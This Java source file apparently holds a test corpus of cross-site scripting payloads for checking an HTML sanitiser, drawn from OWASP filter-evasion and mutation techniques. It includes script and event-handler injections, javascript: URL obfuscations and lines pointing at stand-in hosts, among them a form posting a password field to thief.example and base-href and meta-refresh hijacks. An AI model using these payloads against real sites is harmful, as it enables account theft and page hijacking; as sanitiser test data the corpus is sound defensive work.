package org.sealpost.portal;

import java.util.List;

/** Markup that tries to act or to load, after OWASP's filter evasion list and mutation attacks on sanitisers. */
final class XssCorpus {

    static final List<String> CASES = List.of(
            "<script>document.title='hit'</script>",
            "<scr<script>ipt>document.title='hit'</script>",
            "<img src=x onerror=\"document.title='hit'\">",
            "<img src=https://tracker.example/pixel.gif>",
            "<svg onload=document.title='hit'>",
            "<svg><style><img src=x onerror=document.title='hit'></style></svg>",
            "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
            "<iframe srcdoc=\"<script>parent.document.title='hit'</script>\"></iframe>",
            "<iframe src=https://tracker.example/></iframe>",
            "<object data=https://tracker.example/x></object><embed src=https://tracker.example/x>",
            "<a href=\"javascript:document.title='hit'\">click</a>",
            "<a href=\"  jAvAsCrIpT&colon;document.title='hit'\">click</a>",
            "<a href=\"java\tscript:document.title='hit'\">click</a>",
            "<a href=\"data:text/html,<script>1</script>\">click</a>",
            "<a href=\"https://ok.example/\" onclick=\"document.title='hit'\">click</a>",
            "<form action=https://thief.example/><input name=password></form>",
            "<base href=https://thief.example/><p>x</p>",
            "<meta http-equiv=refresh content=\"0;url=https://thief.example/\">",
            "<link rel=stylesheet href=https://tracker.example/x.css>",
            "<style>@import 'https://tracker.example/x.css'; body{background:url(https://tracker.example/y)}</style>",
            "<p style=\"background:url(https://tracker.example/z);position:fixed\">x</p>",
            "<div id=content class=card>clobber</div>",
            "<body onload=document.title='hit'>",
            "<video poster=https://tracker.example/p><source onerror=\"document.title='hit'\"></video>",
            "<details open ontoggle=document.title='hit'>x</details>",
            "<noscript><p title=\"</noscript><img src=x onerror=document.title='hit'>\"></noscript>",
            "<!--><img src=x onerror=document.title='hit'>-->",
            "<![CDATA[<img src=x onerror=document.title='hit'>]]>",
            "<template><img src=x onerror=document.title='hit'></template>",
            "</div></article></main><h1>outside</h1><input autofocus onfocus=document.title='hit'>",
            "<p>\u0000<img src=\u0000x onerror=document.title='hit'></p>",
            "<xmp><img src=x onerror=document.title='hit'></xmp><plaintext>x");

    private XssCorpus() {}
}
